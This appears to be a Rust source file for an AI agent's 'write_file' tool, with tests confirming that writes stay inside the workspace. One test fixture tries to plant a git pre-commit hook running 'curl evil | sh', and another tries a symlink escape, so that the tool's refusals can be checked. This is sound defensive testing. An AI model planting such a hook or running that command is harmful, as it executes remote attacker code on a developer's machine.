//! `write_file`: creates or replaces a whole file, creating missing directories beneath
//! the workspace.

use std::io::Write;

use schemars::JsonSchema;
use serde::Deserialize;
use serde_json::json;

use super::confine::{self, WriteMode};
use super::{FileTool, ToolResult, ToolSpec};
use crate::policy::Policy;

pub struct WriteFile;

#[derive(Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct Args {
    /// The file: relative to the workspace, or absolute inside it. Missing parent
    /// directories are created.
    pub path: String,
    /// The complete new content of the file.
    pub content: String,
}

impl ToolSpec for WriteFile {
    const NAME: &'static str = "write_file";
    const DESCRIPTION: &'static str = "Create a file in the workspace, or replace its whole \
        content. To change part of an existing file, use edit_file.";
    type Args = Args;

    fn needs_sandbox() -> bool {
        false
    }

    fn is_read_only() -> bool {
        false
    }
}

impl FileTool for WriteFile {
    fn run(policy: &Policy, args: Args) -> ToolResult {
        let mut opened =
            match confine::open_write(policy, &args.path, WriteMode::Create { parents: true }) {
                Ok(opened) => opened,
                Err(e) => return e.into(),
            };
        let shown = confine::display(policy, &opened.path);
        if let Err(e) = opened.file.write_all(args.content.as_bytes()) {
            return ToolResult::error(format!("cannot write `{shown}`: {e}"));
        }
        let bytes = args.content.len();
        let verb = if opened.created {
            "created"
        } else {
            "replaced"
        };
        ToolResult::success(
            json!({"path": shown, "bytes_written": bytes, "created": opened.created}),
            format!("{verb} `{shown}` ({bytes} bytes)"),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tools::testing::Fixture;

    fn run(fx: &Fixture, path: &str, content: &str) -> ToolResult {
        WriteFile::run(
            &fx.policy,
            Args {
                path: path.into(),
                content: content.into(),
            },
        )
    }

    #[test]
    fn creates_and_replaces() {
        let fx = Fixture::new();
        let r = run(&fx, "src/new/mod.rs", "fn main() {}\n");
        assert!(r.ok, "{}", r.text);
        assert_eq!(r.content["bytes_written"], 13);
        assert_eq!(r.content["created"], true);
        assert_eq!(r.content["path"], "src/new/mod.rs");
        assert!(r.text.starts_with("created"), "{}", r.text);
        let r = run(&fx, "src/new/mod.rs", "x");
        assert_eq!(r.content["created"], false);
        assert_eq!(
            std::fs::read_to_string(fx.ws.join("src/new/mod.rs")).unwrap(),
            "x"
        );
    }

    #[test]
    fn refusals_are_results() {
        let fx = Fixture::new();
        std::os::unix::fs::symlink(&fx.outside, fx.ws.join("out")).unwrap();
        let r = run(&fx, "out/pwned", "x");
        assert!(!r.ok);
        assert_eq!(r.content["kind"], "outside_workspace", "{}", r.text);
        let r = run(&fx, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
        assert_eq!(r.content["kind"], "protected_path", "{}", r.text);
        assert!(!fx.ws.join(".git/hooks/pre-commit").exists());
        assert!(!fx.outside.join("pwned").exists());
    }

    #[test]
    fn a_path_naming_a_directory_is_refused_and_nothing_is_created() {
        let fx = Fixture::new();
        for path in ["newdir/", "newdir/.", "sub/newdir/", ".", "newdir/.."] {
            let r = run(&fx, path, "x");
            assert!(!r.ok, "{path}: {}", r.text);
            assert!(
                r.text.contains("does not name a file"),
                "{path}: {}",
                r.text
            );
        }
        assert!(!fx.ws.join("newdir").exists());
        assert!(!fx.ws.join("sub").exists());
    }
}
